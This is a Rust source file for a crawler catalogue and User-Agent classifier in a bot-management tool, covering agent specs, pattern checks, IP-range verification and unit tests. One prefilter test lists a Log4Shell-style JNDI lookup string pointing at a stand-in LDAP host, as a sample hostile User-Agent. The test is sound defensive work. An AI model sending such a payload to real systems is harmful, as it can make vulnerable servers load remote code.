//! The crawler catalogue and the classifier that finds a User-Agent's agent.
//!
//! An agent's pattern is a set of product names (`matcher.rs`); a name
//! claims the agent only where it stands as a product (`claim.rs`), and the
//! first product of the User-Agent that names an agent names the client. A
//! User-Agent that names no agent but reads as a bot (`detector.rs`) is the
//! catalogue's `unknown-bot`, named by its own product token. The stock
//! render writes the same rules for nginx's PCRE, so the stock-nginx `map`
//! and this classifier agree.

use crate::matcher::{Matcher, Pattern};
use crate::model::{AgentSpec, CatalogueFile};
use crate::net::valid_hostname;
pub use crate::net::{canonical_ip, parse_net};
use crate::ranges::RangeSet;
use crate::ua_cache::Classified;
use crate::{Problem, Purpose};
use ipnet::IpNet;
use std::borrow::Cow;
use std::net::IpAddr;

/// The catalogue shipped with crawlward.
pub const BUILTIN_YAML: &str = include_str!("../../catalogue/agents.yaml");

/// The bytes of a User-Agent that identification reads, in the module and
/// in the stock render's maps alike (`$cw_ua`): no real User-Agent is half
/// as long (the longest of about 15,000 crawlers' and browsers' in the
/// public corpora of `bench/identify` is 352 bytes), and the maps' cost
/// grows with the length: nginx accepts a header line of 8k, on which the
/// stock maps would spend tens of milliseconds, before any limit.
pub const UA_READ_MAX: usize = 512;

/// The part of a User-Agent identification reads: its first [`UA_READ_MAX`] bytes.
pub fn read_part(user_agent: &[u8]) -> &[u8] {
    &user_agent[..user_agent.len().min(UA_READ_MAX)]
}

/// One known agent, validated.
#[derive(Debug, Clone)]
pub struct Agent {
    pub name: String,
    pub operator: String,
    pub purpose: Purpose,
    /// None for robots.txt-only tokens.
    pub ua: Option<String>,
    pub robots_token: String,
    pub ranges_url: Option<String>,
    pub ranges: Vec<IpNet>,
    /// The same networks, for lookups.
    pub range_set: RangeSet,
    /// When the ranges were published or fetched (RFC 3339), for their age.
    pub ranges_as_of: Option<String>,
    pub rdns_suffixes: Vec<String>,
    /// The Web Bot Auth key directory (`https://origin`) whose signatures name this agent.
    pub signature_agent: Option<String>,
    pub source: String,
    /// Whether the policy file (rather than the built-in data) added or changed it.
    pub from_policy: bool,
}

impl Agent {
    /// Whether this is the catalogue's `unknown-bot`, the bots it does not
    /// name: each is named, and budgeted, by its own product token.
    pub fn counts_by_token(&self) -> bool {
        self.purpose == Purpose::UnknownBot
    }

    /// Whether a request can be found to be this agent by something other
    /// than what it says: its published ranges, its hostnames' suffixes, or
    /// a signature by its key directory. Such an agent is budgeted in slots
    /// of its own, apart from those who only claim it.
    pub fn can_be_verified(&self) -> bool {
        !self.ranges.is_empty() || !self.rdns_suffixes.is_empty() || self.signature_agent.is_some()
    }

    /// The agent with every field explicit, as the rendered catalogue file holds it,
    /// but for its source: nothing nginx decides or shows reads it, and the
    /// module loads the file in the master, whose heap every worker keeps
    /// (the sources of 2,516 agents cost each worker about 400 kB of RSS).
    /// `crawlward identify`, `explain` and the policy's own catalogue keep them.
    pub fn to_spec(&self) -> AgentSpec {
        AgentSpec {
            name: self.name.clone(),
            operator: Some(self.operator.clone()),
            purpose: Some(self.purpose.as_str().to_string()),
            ua: self.ua.clone(),
            robots_only: self.ua.is_none().then_some(true),
            robots_token: Some(self.robots_token.clone()),
            ranges_url: self.ranges_url.clone(),
            ranges: Some(self.ranges.iter().map(|n| n.to_string()).collect()),
            ranges_as_of: self.ranges_as_of.clone(),
            rdns_suffixes: Some(self.rdns_suffixes.clone()),
            signature_agent: self.signature_agent.clone(),
            source: None,
        }
    }

    pub fn in_ranges(&self, ip: IpAddr) -> bool {
        self.range_set.contains(ip)
    }

    fn set_ranges(&mut self, nets: Vec<IpNet>, as_of: Option<String>) {
        self.range_set = RangeSet::new(&nets);
        self.ranges = nets;
        self.ranges_as_of = as_of;
    }
}

/// The agents in match order, and one compiled matcher over all their patterns.
#[derive(Debug, Clone)]
pub struct Catalogue {
    agents: Vec<Agent>,
    /// Pattern i of the matcher belongs to agent `matchable[i]`.
    matchable: Vec<usize>,
    matcher: Matcher,
    /// The `unknown-bot` agent, if the catalogue has one: the detector's bots.
    unknown_bot: Option<usize>,
}

impl Catalogue {
    pub fn agents(&self) -> &[Agent] {
        &self.agents
    }

    pub fn get(&self, name: &str) -> Option<&Agent> {
        self.agents.iter().find(|a| a.name == name)
    }

    /// The agent whose Web Bot Auth directory is `origin` (`https://chatgpt.com`).
    pub fn by_signature_agent(&self, origin: &str) -> Option<usize> {
        self.agents.iter().position(|a| a.signature_agent.as_deref() == Some(origin))
    }

    /// The agent that names `user_agent`'s client: the first product that
    /// names an agent, else `unknown-bot` for a User-Agent that reads as a bot.
    pub fn classify(&self, user_agent: &[u8]) -> Option<&Agent> {
        self.classify_index(user_agent).map(|i| &self.agents[i])
    }

    /// Give every agent that has a `ranges_url` and no `ranges` in the policy
    /// the networks `lookup` finds for that URL (a downloaded copy, or the
    /// snapshot). `ranges: []` in the policy keeps an agent unverified.
    pub(crate) fn resolve_ranges(&mut self, lookup: impl Fn(&str) -> Option<(Vec<IpNet>, Option<String>)>) {
        for agent in &mut self.agents {
            if agent.ranges_as_of.is_none() {
                if let Some((nets, as_of)) = agent.ranges_url.as_deref().and_then(&lookup) {
                    agent.set_ranges(nets, as_of);
                }
            }
        }
    }

    /// Whether some agent's name, or the bot detector's needle, may be in
    /// `user_agent`, or it has a script's shape (the detector's one rule
    /// without a needle): false means `classify` finds no agent (the
    /// matcher's pass, and its comparisons).
    pub fn may_match(&self, user_agent: &[u8]) -> bool {
        self.matcher.may_match(user_agent) || crate::detector::script_shape(user_agent)
    }

    /// The same on less evidence ([`Matcher::may_match_roughly`]): true wherever
    /// `may_match` is; false means no agent names the client.
    #[inline(always)]
    pub fn may_match_roughly(&self, user_agent: &[u8]) -> bool {
        self.matcher.may_match_roughly(user_agent) || crate::detector::script_shape(user_agent)
    }

    /// Every name of the agents' patterns, with its agent (index in
    /// [`Catalogue::agents`]), as the matcher holds them.
    pub fn names(&self) -> Vec<(crate::matcher::Name, usize)> {
        let patterns: Vec<Pattern> =
            self.matchable.iter().map(|i| Pattern { text: self.agents[*i].ua.clone().unwrap_or_default(), yields: self.agents[*i].purpose.yields() }).collect();
        crate::matcher::owned_names(&patterns).unwrap_or_default().into_iter().map(|(n, p)| (n, self.matchable[p])).collect()
    }

    /// The matcher's memory: its table and names.
    pub fn matcher_memory(&self) -> usize {
        self.matcher.memory_usage()
    }

    /// The index in [`Catalogue::agents`] of the agent that names the client.
    pub fn classify_index(&self, user_agent: &[u8]) -> Option<usize> {
        self.identify(user_agent).and_then(|c| c.agent)
    }

    /// The agent that names the client, and for an unknown bot where its
    /// token is; None when the User-Agent has neither a name nor a needle of
    /// the detector (a browser's: nothing to keep in a memo). Only its first
    /// [`UA_READ_MAX`] bytes are read ([`read_part`]).
    pub fn identify(&self, user_agent: &[u8]) -> Option<Classified> {
        let user_agent = read_part(user_agent);
        let found = self.matcher.find(user_agent);
        if let Some(p) = found.pattern {
            return Some(Classified { agent: Some(self.matchable[p]), token: None });
        }
        // with no needle, only a script's shape can make a bot (see detector.rs)
        if !found.needle && !crate::detector::script_shape(user_agent) {
            return None;
        }
        let bot = self.unknown_bot.and_then(|i| crate::detector::bot(user_agent).map(|b| (i, b.token)));
        Some(Classified { agent: bot.map(|(i, _)| i), token: bot.and_then(|(_, t)| t) })
    }

    /// The name crawlward gives a client, as `$crawlward_agent`, the log
    /// lines, `explain` and `identify` show it: its agent's, or for a bot the
    /// catalogue does not name its own product token (printable ASCII, see
    /// `detector.rs`), lossily decoded. None when no agent names it.
    pub fn label<'a>(&'a self, user_agent: &[u8], found: &Classified) -> Option<Cow<'a, str>> {
        let agent = self.agents.get(found.agent?)?;
        if let (true, Some((start, len))) = (agent.counts_by_token(), found.token) {
            if let Some(token) = user_agent.get(start..start + len) {
                return Some(Cow::Owned(String::from_utf8_lossy(token).into_owned()));
            }
        }
        Some(Cow::Borrowed(agent.name.as_str()))
    }

    /// Add the agents of catalogue feeds (`feeds.rs`): each one whose name no
    /// agent has (any case), with its problems left out (a feed's agent that
    /// does not pass is not added), before `unknown-bot`, which stays last. A
    /// name (a pattern's literal) an agent already has stays that agent's.
    /// Returns how many were added.
    pub fn add_feed_agents(&mut self, specs: &[AgentSpec]) -> usize {
        let at = self.unknown_bot.unwrap_or(self.agents.len());
        let mut added = Vec::new();
        for (i, spec) in specs.iter().enumerate() {
            let taken = |a: &Agent| a.name.eq_ignore_ascii_case(&spec.name);
            if self.agents.iter().any(taken) || added.iter().any(taken) || !valid_name(&spec.name) {
                continue;
            }
            let mut problems = Vec::new();
            let agent = from_spec(spec, &format!("feed[{i}]"), &mut problems, false);
            if problems.is_empty() && agent.purpose != Purpose::UnknownBot {
                added.push(agent);
            }
        }
        let n = added.len();
        if n > 0 {
            let rest = self.agents.split_off(at);
            self.agents.extend(added);
            self.agents.extend(rest);
            let mut problems = Vec::new();
            *self = Catalogue::from_agents(std::mem::take(&mut self.agents), &mut problems);
        }
        n
    }

    /// Build from the built-in data (when `builtin`) and the policy's additions and
    /// overrides. Problems are pushed with paths under `catalogue.agents`.
    pub(crate) fn build(builtin: bool, specs: &[AgentSpec], problems: &mut Vec<Problem>) -> Catalogue {
        let mut agents: Vec<Agent> = Vec::new();
        if builtin {
            agents = builtin_agents();
        }
        let mut added: Vec<Agent> = Vec::new();
        for (i, spec) in specs.iter().enumerate() {
            let path = format!("catalogue.agents[{i}]");
            let before = problems.len();
            if !valid_name(&spec.name) {
                push(problems, &path, "name", format!("invalid agent name \"{}\": use letters, digits, '.', '_' and '-'", spec.name));
            }
            if let Some(dup) = specs[..i].iter().position(|s| s.name.eq_ignore_ascii_case(&spec.name)) {
                push(problems, &path, "name", format!("duplicate agent \"{}\" (also catalogue.agents[{dup}])", spec.name));
                continue;
            }
            match agents.iter_mut().find(|a| a.name.eq_ignore_ascii_case(&spec.name)) {
                Some(existing) => {
                    let merged = merge(existing.clone(), spec, &path, problems);
                    if problems.len() == before {
                        *existing = merged;
                    }
                }
                None => {
                    let agent = from_spec(spec, &path, problems, true);
                    if problems.len() == before {
                        added.push(agent);
                    }
                }
            }
        }
        // Additions are tried before the built-in agents, so a site can name an
        // agent that a broad built-in pattern would otherwise catch.
        added.append(&mut agents);
        Catalogue::from_agents(added, problems)
    }

    /// The catalogue of `agents`, in this order, and its matcher.
    fn from_agents(agents: Vec<Agent>, problems: &mut Vec<Problem>) -> Catalogue {
        let (matchable, patterns): (Vec<usize>, Vec<Pattern>) =
            agents.iter().enumerate().filter_map(|(i, a)| a.ua.as_ref().map(|p| (i, Pattern { text: p.clone(), yields: a.purpose.yields() }))).unzip();
        let matcher = Matcher::new(&patterns).unwrap_or_else(|e| {
            problems.push(Problem { path: "catalogue".into(), message: format!("the catalogue does not compile: {e}") });
            Matcher::new(&[]).expect("an empty matcher compiles")
        });
        let unknown_bot = agents.iter().position(|a| a.purpose == Purpose::UnknownBot);
        if let Some(second) = agents.iter().skip(unknown_bot.map_or(0, |i| i + 1)).find(|a| a.purpose == Purpose::UnknownBot) {
            problems.push(Problem { path: "catalogue.agents".into(), message: format!("agent \"{}\": only one agent has purpose unknown-bot", second.name) });
        }
        // a directory's signatures name one agent
        for (i, a) in agents.iter().enumerate() {
            let Some(dir) = &a.signature_agent else { continue };
            if let Some(first) = agents[..i].iter().find(|b| b.signature_agent.as_ref() == Some(dir)) {
                problems.push(Problem {
                    path: "catalogue.agents".into(),
                    message: format!("agents \"{}\" and \"{}\" both have signature_agent {dir}: a directory's signatures name one agent", first.name, a.name),
                });
            }
        }
        Catalogue { agents, matchable, matcher, unknown_bot }
    }
}

fn builtin_agents() -> Vec<Agent> {
    let file: CatalogueFile = serde_yaml::from_str(BUILTIN_YAML).expect("the built-in catalogue parses (tested)");
    let mut problems = Vec::new();
    let agents = file.agents.iter().enumerate().map(|(i, s)| from_spec(s, &format!("builtin[{i}]"), &mut problems, false)).collect();
    debug_assert!(problems.is_empty(), "built-in catalogue: {problems:?}");
    agents
}

fn push(problems: &mut Vec<Problem>, path: &str, field: &str, message: String) {
    problems.push(Problem { path: format!("{path}.{field}"), message });
}

fn from_spec(spec: &AgentSpec, path: &str, problems: &mut Vec<Problem>, from_policy: bool) -> Agent {
    let mut agent = Agent {
        name: spec.name.clone(),
        operator: String::new(),
        purpose: Purpose::Crawler,
        ua: None,
        robots_token: spec.name.clone(),
        ranges_url: None,
        ranges: Vec::new(),
        range_set: RangeSet::default(),
        ranges_as_of: None,
        rdns_suffixes: Vec::new(),
        signature_agent: None,
        source: String::new(),
        from_policy,
    };
    if spec.purpose.is_none() {
        push(problems, path, "purpose", format!("agent \"{}\" has no purpose", spec.name));
    }
    let unknown_bot = spec.purpose.as_deref() == Some(Purpose::UnknownBot.as_str());
    if spec.ua.is_none() && spec.robots_only != Some(true) && !unknown_bot {
        push(problems, path, "ua", format!("agent \"{}\" has no ua pattern (set robots_only: true for a robots.txt token)", spec.name));
    }
    agent = merge(agent, spec, path, problems);
    if spec.operator.is_none() {
        agent.operator = "unknown".into();
    }
    agent
}

fn merge(mut agent: Agent, spec: &AgentSpec, path: &str, problems: &mut Vec<Problem>) -> Agent {
    agent.from_policy = agent.from_policy || !path.starts_with("builtin");
    if let Some(op) = &spec.operator {
        agent.operator = op.clone();
    }
    if let Some(p) = &spec.purpose {
        match Purpose::parse(p) {
            Some(p) => agent.purpose = p,
            None => push(problems, path, "purpose", format!("unknown purpose \"{p}\": expected one of {}", purposes_list())),
        }
    }
    if spec.robots_only == Some(true) {
        if spec.ua.is_some() {
            push(problems, path, "ua", format!("agent \"{}\" is robots_only and must not have a ua pattern", spec.name));
        }
        agent.ua = None;
    }
    if let Some(ua) = &spec.ua {
        match check_pattern(ua) {
            Ok(()) => agent.ua = Some(ua.clone()),
            Err(e) => push(problems, path, "ua", e),
        }
    }
    if let Some(t) = &spec.robots_token {
        if t.is_empty() || t.chars().any(|c| c.is_whitespace() || c.is_control()) {
            push(problems, path, "robots_token", format!("invalid robots.txt token \"{t}\""));
        } else {
            agent.robots_token = t.clone();
        }
    }
    if let Some(u) = &spec.ranges_url {
        if !(u.starts_with("https://") || u.starts_with("http://")) {
            push(problems, path, "ranges_url", format!("ranges_url \"{u}\" is not an http(s) URL"));
        }
        agent.ranges_url = Some(u.clone());
    }
    if let Some(ranges) = &spec.ranges {
        let mut nets = Vec::new();
        for (j, r) in ranges.iter().enumerate() {
            match parse_net(r) {
                Ok(net) => nets.push(net),
                Err(e) => problems.push(Problem { path: format!("{path}.ranges[{j}]"), message: e }),
            }
        }
        let as_of = spec.ranges_as_of.clone().or_else(|| (!path.starts_with("builtin")).then(|| "policy".to_string()));
        agent.set_ranges(nets, as_of);
    }
    if let Some(suffixes) = &spec.rdns_suffixes {
        agent.rdns_suffixes.clear();
        for (j, s) in suffixes.iter().enumerate() {
            if valid_hostname(s) {
                agent.rdns_suffixes.push(s.to_ascii_lowercase());
            } else {
                problems.push(Problem { path: format!("{path}.rdns_suffixes[{j}]"), message: format!("invalid hostname suffix \"{s}\"") });
            }
        }
    }
    if let Some(url) = &spec.signature_agent {
        match crate::signature::directory_origin(url) {
            Some(origin) => agent.signature_agent = Some(origin),
            None => push(problems, path, "signature_agent", format!("signature_agent \"{url}\" is not an https:// origin (https://host, no path)")),
        }
    }
    if let Some(s) = &spec.source {
        agent.source = s.clone();
    }
    // the detector's bots have no pattern: the catalogue's own entry is theirs
    if agent.purpose == Purpose::UnknownBot && agent.ua.is_some() {
        push(
            problems,
            path,
            "purpose",
            format!("agent \"{}\": purpose unknown-bot is the catalogue's entry for the bots it does not name, and has no ua pattern", spec.name),
        );
    }
    agent
}

fn purposes_list() -> String {
    Purpose::ALL.iter().map(|p| p.as_str()).collect::<Vec<_>>().join(", ")
}

pub(crate) fn valid_name(s: &str) -> bool {
    !s.is_empty() && s.len() <= 64 && s.chars().all(|c| c.is_ascii_alphanumeric() || "._-".contains(c))
}

/// A User-Agent pattern must stand for product names (see `matcher.rs`) and
/// must not need quoting tricks in nginx.
pub fn check_pattern(p: &str) -> Result<(), String> {
    if p.is_empty() {
        return Err("empty ua pattern: write the product's name".into());
    }
    if let Some(c) = p.chars().find(|c| "\"'{}".contains(*c) || c.is_control() || !c.is_ascii()) {
        return Err(format!("invalid ua pattern \"{p}\": the character '{c}' is not allowed"));
    }
    for bad in ["(?", "\\w", "\\W", "\\b", "\\B", "\\p", "\\P", "\\1", "\\k", "\\z", "\\A"] {
        if p.contains(bad) {
            return Err(format!("invalid ua pattern \"{p}\": \"{bad}\" means different things in nginx and in crawlward; use literals, classes, () and |"));
        }
    }
    crate::matcher::names(p).map(|_| ())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn builtin() -> Catalogue {
        let mut problems = Vec::new();
        let c = Catalogue::build(true, &[], &mut problems);
        assert!(problems.is_empty(), "{problems:?}");
        c
    }

    #[test]
    fn a_signature_agent_is_an_https_origin_of_one_agent() {
        let spec = |name: &str, dir: &str| AgentSpec {
            name: name.into(),
            purpose: Some("ai-user".into()),
            robots_only: Some(true),
            signature_agent: Some(dir.into()),
            ..Default::default()
        };
        let mut problems = Vec::new();
        let c = Catalogue::build(true, &[spec("Signer", "https://Agent.example/")], &mut problems);
        assert!(problems.is_empty(), "{problems:?}");
        assert_eq!(c.by_signature_agent("https://agent.example").map(|i| c.agents()[i].name.as_str()), Some("Signer"));
        Catalogue::build(false, &[spec("Signer", "http://agent.example")], &mut problems);
        assert_eq!(
            problems.pop().map(|p| (p.path, p.message)),
            Some((
                "catalogue.agents[0].signature_agent".into(),
                "signature_agent \"http://agent.example\" is not an https:// origin (https://host, no path)".into()
            ))
        );
        Catalogue::build(true, &[spec("Other", "https://chatgpt.com")], &mut problems);
        assert!(problems.iter().any(|p| p.message.contains("\"Other\" and \"ChatGPT-Agent\" both have signature_agent https://chatgpt.com")), "{problems:?}");
    }

    #[test]
    fn the_prefilter_lets_through_every_user_agent_identify_names() {
        // the module asks may_match_roughly first: a script's shape has no needle
        let c = builtin();
        for ua in ["Hakai/2.0", "Zeus", "Mozilla/5.0 (compatible; Crusader/1.0)", "Mozilla/5.0", "curl/8.5.0", "Rivetbot/1.0", "${jndi:ldap://x.example/a}"] {
            let named = c.identify(ua.as_bytes()).and_then(|x| x.agent);
            assert!(named.is_some(), "{ua}");
            assert!(c.may_match(ua.as_bytes()) && c.may_match_roughly(ua.as_bytes()), "{ua}");
        }
        let browser = b"Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36";
        assert!(!c.may_match_roughly(browser) && c.identify(browser).is_none());
    }

    #[test]
    fn builtin_catalogue_is_valid_and_unique() {
        let file: CatalogueFile = serde_yaml::from_str(BUILTIN_YAML).unwrap();
        let mut problems = Vec::new();
        for (i, s) in file.agents.iter().enumerate() {
            from_spec(s, &format!("builtin[{i}]"), &mut problems, false);
            assert!(!s.source.as_deref().unwrap_or("").is_empty(), "{} has no source", s.name);
            assert!(s.operator.is_some(), "{} has no operator", s.name);
            assert!(valid_name(&s.name), "{}", s.name);
        }
        assert!(problems.is_empty(), "{problems:?}");
        let mut names: Vec<String> = file.agents.iter().map(|a| a.name.to_ascii_lowercase()).collect();
        names.sort();
        let n = names.len();
        names.dedup();
        assert_eq!(n, names.len(), "duplicate names in the built-in catalogue");
    }

    #[test]
    fn seed_000_agents_are_all_there() {
        let c = builtin();
        for name in [
            "GPTBot",
            "ClaudeBot",
            "anthropic-ai",
            "CCBot",
            "Amazonbot",
            "Bytespider",
            "meta-externalagent",
            "AhrefsBot",
            "SemrushBot",
            "MJ12bot",
            "DotBot",
            "PetalBot",
            "Googlebot",
            "bingbot",
            "archive.org_bot",
            "OAI-SearchBot",
            "facebookexternalhit",
            "Google-Extended",
            "Applebot-Extended",
        ] {
            assert!(c.get(name).is_some(), "{name} missing from the catalogue");
        }
        assert!(c.get("Google-Extended").unwrap().ua.is_none());
    }

    #[test]
    fn the_first_product_names_the_client_and_browsers_match_nothing() {
        let c = builtin();
        let name = |ua: &str| c.classify(ua.as_bytes()).map(|a| a.name.clone());
        assert_eq!(name("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)").as_deref(), Some("Googlebot"));
        assert_eq!(name("Mozilla/5.0 AppleWebKit/537.36 (KHTML, like Gecko; compatible; GPTBot/1.2; +https://openai.com/gptbot)").as_deref(), Some("GPTBot"));
        assert_eq!(name("mozilla/5.0 (compatible; gptbot/1.2)").as_deref(), Some("GPTBot"), "case-insensitive");
        assert_eq!(c.classify(b"python-requests/2.31").unwrap().purpose, Purpose::Scripting);
        // a bot no entry names is the unknown bot, named by its product token
        let reflection = b"Mozilla/5.0 (compatible; Rivetbot/1.0)";
        assert_eq!(name("Mozilla/5.0 (compatible; Rivetbot/1.0)").as_deref(), Some("unknown-bot"));
        let (s, n) = c.identify(reflection).unwrap().token.unwrap();
        assert_eq!(&reflection[s..s + n], b"Rivetbot");
        // a mention is not a claim
        assert_eq!(name("Mozilla/5.0 (compatible; Fake-Googlebot/2.1)").as_deref(), Some("unknown-bot"));
        assert_eq!(name("SentiBot www.sentibot.eu (compatible with Googlebot)").as_deref(), Some("SentiBot"));
        for browser in [
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36",
            "Mozilla/5.0 (X11; Linux x86_64; rv:132.0) Gecko/20100101 Firefox/132.0",
            "Mozilla/5.0 (iPhone; CPU iPhone OS 17_0 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.0 Mobile/15E148 Safari/604.1",
            "Mozilla/5.0 (Linux; Android 13; CUBOT P60) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Mobile Safari/537.36",
        ] {
            assert_eq!(name(browser), None, "{browser}");
            // a phone model with "bot" in it has the detector's needle: its answer is kept
            let kept = browser.contains("CUBOT").then_some(Classified::default());
            assert_eq!(c.identify(browser.as_bytes()), kept, "{browser}");
        }
        // invalid UTF-8 is classified as bytes, not rejected
        assert_eq!(c.classify(b"\xff\xfe (GPTBot\xc3").unwrap().name, "GPTBot");
    }

    #[test]
    fn policy_additions_come_first_and_overrides_keep_their_place() {
        let specs: Vec<AgentSpec> =
            serde_yaml::from_str("- {name: Rivetbot, operator: Example, purpose: seo, ua: Rivetbot, source: test}\n- {name: GPTBot, ranges: [192.0.2.0/24]}\n")
                .unwrap();
        let mut problems = Vec::new();
        let c = Catalogue::build(true, &specs, &mut problems);
        assert!(problems.is_empty(), "{problems:?}");
        assert_eq!(c.classify(b"Rivetbot/1.0").unwrap().name, "Rivetbot");
        let gpt = c.get("GPTBot").unwrap();
        assert_eq!(gpt.purpose, Purpose::AiTraining, "an override keeps the fields it does not name");
        assert!(gpt.in_ranges("192.0.2.7".parse().unwrap()));
        assert!(gpt.in_ranges("::ffff:192.0.2.7".parse().unwrap()), "IPv4-mapped IPv6");
        assert!(!gpt.in_ranges("198.51.100.1".parse().unwrap()));
    }

    #[test]
    fn patterns_outside_the_portable_subset_are_refused() {
        for p in ["(?=x)bot", "\\wbot", "a{2}", "", "x|", "bot\"", "(unclosed", "x(^Java)", "Yeti/", "Go", "Synth\\d+Crawler"] {
            assert!(check_pattern(p).is_err(), "{p}");
        }
        assert!(check_pattern("Go-http-client").is_ok());
        assert!(check_pattern("(bot|crawl|spider)").is_ok());
        assert!(check_pattern("Yandex(Bot|Images)").is_ok());
        assert_eq!(check_pattern("(unclosed").unwrap_err(), "invalid ua pattern \"(unclosed\": error: unclosed group");
        assert_eq!(check_pattern("bo[t").unwrap_err(), "invalid ua pattern \"bo[t\": error: unclosed character class");
        assert_eq!(
            check_pattern("Yeti/").unwrap_err(),
            "invalid ua pattern \"Yeti/\": the name \"yeti/\" must start with the product's first character and end with its last one (no \"/\" of a version)"
        );
        for p in ["x|", "(bot)?", "a*", "[a-z]*", "(|crawl)", "Bo"] {
            assert!(check_pattern(p).unwrap_err().contains("it must stand for at most 64 product names"), "{p}");
        }
    }
}

#[cfg(test)]
mod range_tests {
    #[test]
    fn the_snapshot_gives_ranges_and_an_empty_list_in_the_policy_takes_them_away() {
        let p = crate::load_str(
            "t.yaml",
            "site: {canonical_url: https://example.org, upstream_workers: 4}\nrobots: {}\ncatalogue: {agents: [{name: GPTBot, ranges: []}]}\n",
        )
        .unwrap();
        let c = &p.identity.catalogue;
        assert!(!c.get("Googlebot").unwrap().ranges.is_empty(), "Googlebot's ranges come from the shipped snapshot");
        assert!(c.get("Googlebot").unwrap().in_ranges("66.249.66.1".parse().unwrap()));
        assert!(c.get("GPTBot").unwrap().ranges.is_empty(), "ranges: [] keeps GPTBot unverified");
        assert!(c.get("bingbot").unwrap().ranges.is_empty(), "no snapshot for Bing");
        // the fetchers Google controls share user-triggered-fetchers-google.json
        for fetcher in ["FeedFetcher-Google", "Google-Read-Aloud", "Google-Site-Verification"] {
            let a = c.get(fetcher).unwrap();
            assert!(a.in_ranges("142.250.32.5".parse().unwrap()), "{fetcher} is verified by Google's list of its own fetchers");
            assert!(!a.in_ranges("66.249.66.1".parse().unwrap()), "{fetcher}: not by Googlebot's");
        }
    }

    /// docs/ranges.md lists where each operator publishes: every ranges_url of the
    /// catalogue, with whether the snapshot has a copy, so the two cannot drift.
    #[test]
    fn the_docs_list_every_ranges_url_and_its_snapshot() {
        let docs = std::fs::read_to_string(concat!(env!("CARGO_MANIFEST_DIR"), "/../docs/ranges.md")).unwrap();
        let mut urls: Vec<String> = super::builtin_agents().into_iter().filter_map(|a| a.ranges_url).collect();
        urls.sort();
        urls.dedup();
        for url in urls {
            let row = docs.lines().find(|l| l.starts_with('|') && l.contains(&format!("`{url}`")));
            let Some(row) = row else { panic!("docs/ranges.md has no row for {url}") };
            let snapshot = if crate::shipped(&url).is_some() { "yes" } else { "no" };
            assert!(row.trim_end().ends_with(&format!("| {snapshot} |")), "docs/ranges.md: {url} should say snapshot {snapshot}: {row}");
        }
    }
}
